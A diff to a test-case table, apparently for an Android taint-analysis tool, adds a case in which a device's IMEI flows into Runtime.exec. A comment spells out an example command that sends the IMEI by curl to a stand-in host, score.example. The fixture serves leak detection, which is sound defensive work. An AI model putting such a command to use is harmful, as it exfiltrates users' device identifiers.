@@ -70,9 +70,19 @@ CASES = [
             "MainActivity.onCreate@0x8a",  # Log.i
         ),
     ),
+    # Runtime.getRuntime().exec("curl -s https://score.example/d?id=" + imei): the command
+    # line goes to another program (the ipc sink).
+    Case(
+        "kind-process-exec",
+        "device_id",
+        "ipc",
+        ("MainActivity.onCreate@0x16", "MainActivity.onCreate@0x42"),  # getDeviceId, exec
+    ),
 ]
 
 NEG_WHY = {
+    # exec("sh -c id"): the command built with the IMEI is not the one run.
+    "kind-process-exec": "a fixed command is run",
     # The object written is another Note, made with a fixed text.
     "flow-serialized-object": "another object is serialised",
     # Log.i(t[0][0]): the cells of a row are kept apart by constant index.
